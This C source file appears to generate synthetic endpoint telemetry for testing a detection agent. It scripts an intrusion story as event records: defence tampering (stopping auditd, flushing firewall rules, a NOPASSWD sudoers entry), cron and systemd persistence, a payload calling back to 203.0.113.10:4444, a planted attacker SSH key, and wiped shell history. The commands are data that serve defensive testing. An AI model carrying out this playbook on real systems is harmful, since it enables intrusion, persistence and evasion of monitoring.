/*
 * storygen.c — see storygen.h. The records carry the fields the agent
 * fills for each kind of event (docs/events.md): the process block of
 * process events, the initiating process block and its parent of every
 * event, the file, network and logon fields.
 */
#include "storygen.h"

#include <stdio.h>
#include <string.h>

#include "common/schema.h"

const uint64_t storygen_t0 = 1764151920000000000ull; /* 2025-11-26T10:12:00Z */

#define BOOT_NS (storygen_t0 - 900ull * 1000000000ull) /* booted 900 s (90000 ticks) before */
#define MAX_PROCS 64

struct gproc {
    unsigned pid, ticks;
    char image[128], cmd[256], uid[48];
    int parent;
};

struct gen {
    struct tlv_buf *out;
    struct tlv_buf rec;
    uint64_t seq, ts;
    size_t count;
    struct gproc p[MAX_PROCS];
    int n;
};

static const char *file_name_of(const char *path)
{
    const char *s = strrchr(path, '/');
    return s ? s + 1 : path;
}

static uint64_t start_ns(const struct gproc *p)
{
    return BOOT_NS + (uint64_t)p->ticks * 10000000ull;
}

/* Starts a record: the fields every event has. */
static void begin(struct tlv_buf *rec, uint64_t seq, uint64_t ts, const char *type, const char *action,
                  const char *source)
{
    tlv_reset(rec);
    tlv_put_time(rec, F_TIMESTAMP, ts);
    tlv_put_cstr_opt(rec, F_EVENT_TYPE, type);
    tlv_put_cstr_opt(rec, F_ACTION_TYPE, action);
    tlv_put_uint(rec, F_SEQ, seq);
    tlv_put_cstr_opt(rec, F_SENSOR_SOURCE, source);
    tlv_put_cstr_opt(rec, F_DEVICE_NAME, "web-01");
}

/* Appends the record to out as the wire carries it. */
static void finish(struct tlv_buf *out, struct tlv_buf *rec)
{
    tlv_put_varint(out, rec->len);
    tlv_put_raw(out, rec->data, rec->len);
}

static void proc_fields(struct tlv_buf *rec, unsigned pid, const char *uid, uint64_t start, const char *image,
                        const char *cmd)
{
    tlv_put_uint(rec, F_PROCESS_ID, pid);
    tlv_put_cstr_opt(rec, F_PROCESS_UNIQUE_ID, uid);
    tlv_put_time(rec, F_PROCESS_CREATION_TIME, start);
    tlv_put_cstr_opt(rec, F_FILE_NAME, file_name_of(image));
    tlv_put_cstr_opt(rec, F_FOLDER_PATH, image);
    tlv_put_cstr_opt(rec, F_PROCESS_COMMAND_LINE, cmd);
    tlv_put_cstr_opt(rec, F_ACCOUNT_NAME, "root");
    tlv_put_uint(rec, F_ACCOUNT_UID, 0);
}

static void initiating_fields(struct tlv_buf *rec, const struct gen *g, int actor)
{
    const struct gproc *a = &g->p[actor];
    tlv_put_uint(rec, F_IP_ID, a->pid);
    tlv_put_cstr_opt(rec, F_IP_UNIQUE_ID, a->uid);
    tlv_put_cstr_opt(rec, F_IP_FILE_NAME, file_name_of(a->image));
    tlv_put_cstr_opt(rec, F_IP_FOLDER_PATH, a->image);
    tlv_put_cstr_opt(rec, F_IP_COMMAND_LINE, a->cmd);
    tlv_put_time(rec, F_IP_CREATION_TIME, start_ns(a));
    tlv_put_cstr_opt(rec, F_IP_ACCOUNT_NAME, "root");
    tlv_put_uint(rec, F_IP_ACCOUNT_UID, 0);
    if (a->parent >= 0) {
        const struct gproc *pp = &g->p[a->parent];
        tlv_put_uint(rec, F_IP_PARENT_ID, pp->pid);
        tlv_put_cstr_opt(rec, F_IP_PARENT_UNIQUE_ID, pp->uid);
        tlv_put_cstr_opt(rec, F_IP_PARENT_FILE_NAME, file_name_of(pp->image));
    }
}

static int add_proc(struct gen *g, unsigned pid, unsigned ticks, int parent, const char *image, const char *cmd)
{
    struct gproc *p = &g->p[g->n];
    p->pid = pid;
    p->ticks = ticks;
    p->parent = parent;
    snprintf(p->image, sizeof(p->image), "%s", image);
    snprintf(p->cmd, sizeof(p->cmd), "%s", cmd);
    snprintf(p->uid, sizeof(p->uid), STORYGEN_BOOT "-%u-%u", pid, ticks);
    return g->n++;
}

/* A process event of p as it is now (its parent initiating). */
static void process_event(struct gen *g, int i, const char *action, const char *source, int exit_code)
{
    const struct gproc *p = &g->p[i];
    begin(&g->rec, g->seq++, g->ts, "process", action, source);
    g->ts += 1000000;
    proc_fields(&g->rec, p->pid, p->uid, start_ns(p), p->image, p->cmd);
    if (p->parent >= 0)
        initiating_fields(&g->rec, g, p->parent);
    if (exit_code >= 0)
        tlv_put_int(&g->rec, F_PROCESS_EXIT_CODE, exit_code);
    finish(g->out, &g->rec);
    g->count++;
}

static int snapshot(struct gen *g, unsigned pid, unsigned ticks, int parent, const char *image, const char *cmd)
{
    int i = add_proc(g, pid, ticks, parent, image, cmd);
    process_event(g, i, "ProcessSnapshot", "procfs", -1);
    return i;
}

/* fork (the child runs the parent's image), then exec. */
static int spawn(struct gen *g, unsigned pid, unsigned ticks, int parent, const char *image, const char *cmd)
{
    int i = add_proc(g, pid, ticks, parent, g->p[parent].image, g->p[parent].cmd);
    if (g->ts < start_ns(&g->p[i]))
        g->ts = start_ns(&g->p[i]); /* events follow the process's start */
    process_event(g, i, "ProcessForked", "ebpf", -1);
    if (image) {
        snprintf(g->p[i].image, sizeof(g->p[i].image), "%s", image);
        snprintf(g->p[i].cmd, sizeof(g->p[i].cmd), "%s", cmd);
        process_event(g, i, "ProcessCreated", "ebpf", -1);
    }
    return i;
}

static void exec_again(struct gen *g, int i, const char *image, const char *cmd)
{
    snprintf(g->p[i].image, sizeof(g->p[i].image), "%s", image);
    snprintf(g->p[i].cmd, sizeof(g->p[i].cmd), "%s", cmd);
    process_event(g, i, "ProcessCreated", "ebpf", -1);
}

static void done(struct gen *g, int i)
{
    process_event(g, i, "ProcessExited", "ebpf", 0);
}

static void file_event(struct gen *g, int actor, const char *action, const char *path, const char *tag,
                       const char *snippet, const char *mode, const char *link_target, bool truncated)
{
    begin(&g->rec, g->seq++, g->ts, "file", action, "ebpf");
    g->ts += 1000000;
    initiating_fields(&g->rec, g, actor);
    tlv_put_cstr_opt(&g->rec, F_FILE_NAME, file_name_of(path));
    tlv_put_cstr_opt(&g->rec, F_FOLDER_PATH, path);
    tlv_put_cstr_opt(&g->rec, F_FILE_MODE, mode);
    if (mode && (mode[strlen(mode) - 1] & 1))
        tlv_put_bool(&g->rec, F_IS_EXECUTABLE);
    if (truncated)
        tlv_put_bool(&g->rec, F_FILE_TRUNCATED);
    if (strcmp(path, "/root/.ssh") == 0)
        tlv_put_bool(&g->rec, F_IS_DIRECTORY);
    tlv_put_cstr_opt(&g->rec, F_LOCATION_TAG, tag);
    if (link_target) {
        tlv_put_cstr_opt(&g->rec, F_LINK_TYPE, "symlink");
        tlv_put_cstr_opt(&g->rec, F_LINK_TARGET, link_target);
    }
    if (snippet)
        tlv_put_str(&g->rec, F_FILE_CONTENT_SNIPPET, snippet, strlen(snippet));
    finish(g->out, &g->rec);
    g->count++;
}

static void connect_event(struct gen *g, int actor, const char *ip, unsigned port)
{
    begin(&g->rec, g->seq++, g->ts, "network", "ConnectionSuccess", "ebpf");
    g->ts += 1000000;
    initiating_fields(&g->rec, g, actor);
    tlv_put_cstr_opt(&g->rec, F_PROTOCOL, "Tcp");
    tlv_put_cstr_opt(&g->rec, F_LOCAL_IP, "10.0.0.5");
    tlv_put_uint(&g->rec, F_LOCAL_PORT, 40000 + g->count);
    tlv_put_cstr_opt(&g->rec, F_REMOTE_IP, ip);
    tlv_put_uint(&g->rec, F_REMOTE_PORT, port);
    tlv_put_cstr_opt(&g->rec, F_REMOTE_IP_TYPE, "Public");
    finish(g->out, &g->rec);
    g->count++;
}

static void ssh_logon(struct gen *g, int actor)
{
    begin(&g->rec, g->seq++, g->ts, "logon", "LogonSuccess", "authlog");
    g->ts += 1000000;
    initiating_fields(&g->rec, g, actor);
    tlv_put_cstr_opt(&g->rec, F_LOGON_TYPE, "Network");
    tlv_put_cstr_opt(&g->rec, F_PROTOCOL, "ssh");
    tlv_put_cstr_opt(&g->rec, F_ACCOUNT_NAME, "root");
    tlv_put_cstr_opt(&g->rec, F_AUTHENTICATION_METHOD, "password");
    tlv_put_cstr_opt(&g->rec, F_REMOTE_IP, "203.0.113.10");
    tlv_put_uint(&g->rec, F_REMOTE_PORT, 51234);
    tlv_put_cstr_opt(&g->rec, F_LOG_LINE, "Accepted password for root from 203.0.113.10 port 51234 ssh2");
    finish(g->out, &g->rec);
    g->count++;
}

size_t storygen_attack(struct tlv_buf *out, uint64_t first_seq, uint64_t t0_ns)
{
    static struct gen g;
    int systemd, cron, listener, priv, session, bash, ls, script, c, payload, job, backup;

    memset(&g, 0, sizeof(g));
    g.out = out;
    tlv_init(&g.rec);
    g.seq = first_seq;
    g.ts = t0_ns ? t0_ns : storygen_t0;

    systemd = snapshot(&g, 1, 5, -1, "/usr/lib/systemd/systemd", "/sbin/init");
    cron = snapshot(&g, 600, 300, systemd, "/usr/sbin/cron", "/usr/sbin/cron -f");
    listener = snapshot(&g, 800, 310, systemd, "/usr/sbin/sshd",
                        "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups");
    priv = spawn(&g, 2000, 90000, listener, NULL, NULL);
    snprintf(g.p[priv].cmd, sizeof(g.p[priv].cmd), "sshd: root [priv]");
    ssh_logon(&g, priv);
    session = spawn(&g, 2005, 90010, priv, NULL, NULL);
    snprintf(g.p[session].cmd, sizeof(g.p[session].cmd), "sshd: root@pts/0");
    bash = spawn(&g, 2006, 90020, session, "/usr/bin/bash", "-bash");
    ls = spawn(&g, 2050, 90100, bash, "/usr/bin/ls", "ls --color=auto /tmp");
    done(&g, ls);

    script = spawn(&g, 2100, 90200, bash, "/usr/bin/bash",
                   "bash /tmp/awsd_attack.sh /tmp/runtime_payload 203.0.113.10 4444");
    /* 1. weaken the defences */
    c = spawn(&g, 2101, 90210, script, "/usr/bin/systemctl", "systemctl stop auditd");
    done(&g, c);
    c = spawn(&g, 2102, 90220, script, "/usr/bin/systemctl", "systemctl disable auditd");
    done(&g, c);
    c = spawn(&g, 2103, 90230, script, "/usr/sbin/nft", "nft flush ruleset");
    done(&g, c);
    file_event(&g, script, "FileCreated", "/etc/sudoers.d/99-awsd", "security:sudoers",
               "root ALL=(ALL:ALL) NOPASSWD: ALL\n", "0644", NULL, false);
    c = spawn(&g, 2104, 90240, script, "/usr/bin/mkdir", "mkdir -p /etc/yamori");
    done(&g, c);
    file_event(&g, script, "FileCreated", "/etc/yamori/exclusions.conf", "agent:config", "/usr/lib/runtime\n", "0644",
               NULL, false);
    /* 2. the payload where system binaries live */
    c = spawn(&g, 2105, 90250, script, "/usr/bin/cp", "cp /tmp/runtime_payload /usr/lib/runtime");
    file_event(&g, c, "FileCreated", "/usr/lib/runtime", NULL, NULL, "0755", NULL, false);
    done(&g, c);
    c = spawn(&g, 2106, 90260, script, "/usr/bin/chmod", "chmod 755 /usr/lib/runtime");
    file_event(&g, c, "FilePermissionsChanged", "/usr/lib/runtime", NULL, NULL, "0755", NULL, false);
    done(&g, c);
    /* 3. start at every boot */
    file_event(&g, script, "FileCreated", "/etc/cron.d/awsd", "persistence:cron",
               "@reboot root /usr/lib/runtime 203.0.113.10 4444\n", "0644", NULL, false);
    c = spawn(&g, 2107, 90270, script, "/usr/bin/mkdir", "mkdir -p /etc/systemd/system");
    done(&g, c);
    c = spawn(&g, 2108, 90280, script, "/usr/bin/cat", "cat");
    file_event(&g, c, "FileCreated", "/etc/systemd/system/awsd.service", "persistence:systemd",
               "[Unit]\nDescription=AWS daemon\n[Service]\nExecStart=/usr/lib/runtime 203.0.113.10 4444\n"
               "Restart=always\n[Install]\nWantedBy=multi-user.target\n",
               "0644", NULL, false);
    done(&g, c);
    c = spawn(&g, 2109, 90290, script, "/usr/bin/systemctl", "systemctl enable awsd.service");
    file_event(&g, c, "FileCreated", "/etc/systemd/system/multi-user.target.wants/awsd.service",
               "persistence:systemd", NULL, NULL, "/etc/systemd/system/awsd.service", false);
    done(&g, c);
    /* 4. the payload runs and calls home */
    payload = spawn(&g, 2110, 90300, script, "/usr/bin/nohup", "nohup /usr/lib/runtime 203.0.113.10 4444");
    exec_again(&g, payload, "/usr/lib/runtime", "/usr/lib/runtime 203.0.113.10 4444");
    for (int i = 0; i < 3; i++)
        connect_event(&g, payload, "203.0.113.10", 4444);
    /* 5. a way back in, no history */
    c = spawn(&g, 2111, 90310, script, "/usr/bin/mkdir", "mkdir -p /root/.ssh");
    done(&g, c);
    c = spawn(&g, 2112, 90320, script, "/usr/bin/chmod", "chmod 700 /root/.ssh");
    file_event(&g, c, "FilePermissionsChanged", "/root/.ssh", NULL, NULL, "0700", NULL, false);
    done(&g, c);
    file_event(&g, script, "FileModified", "/root/.ssh/authorized_keys", "persistence:ssh-key",
               "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAdminKeyOfTheMachine000000000000000000000 admin@laptop\n"
               "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttackerKeyForTheScenarioOnly0000000000000 awsd@c2\n",
               "0600", NULL, false);
    c = spawn(&g, 2113, 90330, script, NULL, NULL);
    file_event(&g, c, "FileModified", "/root/.bash_history", "history", "", "0600", NULL, true);
    exec_again(&g, c, "/usr/bin/cat", "cat /dev/null");
    done(&g, c);
    done(&g, script);

    /* a cron job of the cron daemon found running at start */
    job = spawn(&g, 3000, 95000, cron, "/usr/bin/dash", "/bin/sh -c /usr/local/bin/backup.sh");
    backup = spawn(&g, 3001, 95010, job, "/usr/local/bin/backup.sh", "/bin/bash /usr/local/bin/backup.sh");
    file_event(&g, backup, "FileDeleted", "/tmp/backup.old", "temp", NULL, NULL, NULL, false);
    done(&g, backup);
    done(&g, job);

    tlv_free(&g.rec);
    return g.count;
}

void storygen_file(struct tlv_buf *out, uint64_t seq, uint64_t ts, const char *action, unsigned pid, unsigned ticks,
                   unsigned ppid, unsigned pticks, const char *path, const char *tag, const char *snippet,
                   size_t snippet_len)
{
    struct tlv_buf rec;
    char uid[48], puid[48];

    tlv_init(&rec);
    snprintf(uid, sizeof(uid), STORYGEN_BOOT "-%u-%u", pid, ticks);
    snprintf(puid, sizeof(puid), STORYGEN_BOOT "-%u-%u", ppid, pticks);
    begin(&rec, seq, ts, "file", action, "ebpf");
    tlv_put_uint(&rec, F_IP_ID, pid);
    tlv_put_cstr_opt(&rec, F_IP_UNIQUE_ID, uid);
    tlv_put_cstr_opt(&rec, F_IP_FILE_NAME, "bash");
    tlv_put_cstr_opt(&rec, F_IP_PARENT_UNIQUE_ID, puid);
    tlv_put_cstr_opt(&rec, F_FILE_NAME, file_name_of(path));
    tlv_put_cstr_opt(&rec, F_FOLDER_PATH, path);
    tlv_put_cstr_opt(&rec, F_LOCATION_TAG, tag);
    if (snippet)
        tlv_put_str(&rec, F_FILE_CONTENT_SNIPPET, snippet, snippet_len);
    finish(out, &rec);
    tlv_free(&rec);
}

void storygen_process(struct tlv_buf *out, uint64_t seq, uint64_t ts, const char *action, unsigned pid,
                      unsigned ticks, unsigned ppid, unsigned pticks, const char *image, const char *cmdline)
{
    struct tlv_buf rec;
    char uid[48], puid[48];

    tlv_init(&rec);
    snprintf(uid, sizeof(uid), STORYGEN_BOOT "-%u-%u", pid, ticks);
    snprintf(puid, sizeof(puid), STORYGEN_BOOT "-%u-%u", ppid, pticks);
    begin(&rec, seq, ts, "process", action, "ebpf");
    proc_fields(&rec, pid, uid, BOOT_NS + (uint64_t)ticks * 10000000ull, image, cmdline);
    tlv_put_uint(&rec, F_IP_ID, ppid);
    tlv_put_cstr_opt(&rec, F_IP_UNIQUE_ID, puid);
    tlv_put_cstr_opt(&rec, F_IP_FILE_NAME, "bash");
    tlv_put_cstr_opt(&rec, F_IP_FOLDER_PATH, "/usr/bin/bash");
    finish(out, &rec);
    tlv_free(&rec);
}
